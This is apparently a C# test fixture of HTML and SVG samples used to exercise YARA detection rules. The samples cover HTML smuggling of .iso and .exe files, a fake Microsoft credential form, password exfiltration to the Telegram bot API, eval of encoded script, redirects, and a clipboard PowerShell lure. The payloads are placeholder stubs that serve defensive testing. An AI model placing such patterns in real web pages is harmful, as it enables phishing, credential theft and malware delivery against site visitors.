using static SecuEdge.Cage.Tests.Yara.RuleVector;

namespace SecuEdge.Cage.Tests.Yara;

internal static class WebVectors
{
    private const string Save = "var b = new Blob([a]); l.href = URL.createObjectURL(b); ";

    private static readonly string Encoded = Repeat("JTNDaHRtbCUzRQ", 40);

    public static IReadOnlyList<RuleVector> All { get; } =
    [
        new("Html_Smuggles_Program", Script("var a = atob(x); " + Save + "l.download = 'invoice.iso'; l.click();")),
        new("Html_Smuggles_Program", Script("window.navigator.msSaveBlob(new Blob([new Uint8Array(x)]), \"setup.exe\");")),
        new("Html_Smuggles_Program", "<html><body><a id=\"x\" download=\"scan.js\" href=\"data:application/octet-stream;base64,eA==\">x</a></body></html>"),
        new("Html_Smuggles_Encoded_Program", Script("var x = \"TVqQAAM" + Repeat("A", 100) + "\"; " + Save + "l.download = name;")),
        new("Html_Smuggling", Script("var a = atob(x); " + Save + "l.setAttribute('download', name); l.click();")),
        new("Html_Credential_Form", "<html><body>Sign in to Microsoft <form action=\"https://x.example/p.php\"><input name=\"p\" type=\"password\"></form></body></html>"),
        new("Html_Credentials_To_Chat", "<html><input id=p type=password><script>fetch('https://api.telegram.org/bot123:abc/sendMessage')</script></html>"),
        new("Html_Written_Page", Script("document.write(unescape('" + Encoded + "'));")),
        new("Html_Written_Page", Script("eval(atob('" + Encoded + "'));")),
        new("Html_Sends_On", "<html><head><meta http-equiv=\"refresh\" content=\"0; url=https://x.example/\"></head></html>"),
        new("Html_Sends_On", Script("window.location.href = 'https://x.example/';")),
        new("Html_Copies_Command", Script("navigator.clipboard.writeText('powershell -c x')") + "<p>Press <b>Windows Key + R</b></p>"),
        new("Svg_Masked_Script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.location = atob('eA==')</script></svg>"),
        new("Svg_Masked_Script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script href=\"data:text/plain;base64,eA==\"/></svg>"),
        new("Svg_Script", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"location='https://x.example/'\"/>"),
    ];

    private static string Script(string text) => "<html><body><script>" + text + "</script></body></html>";
}
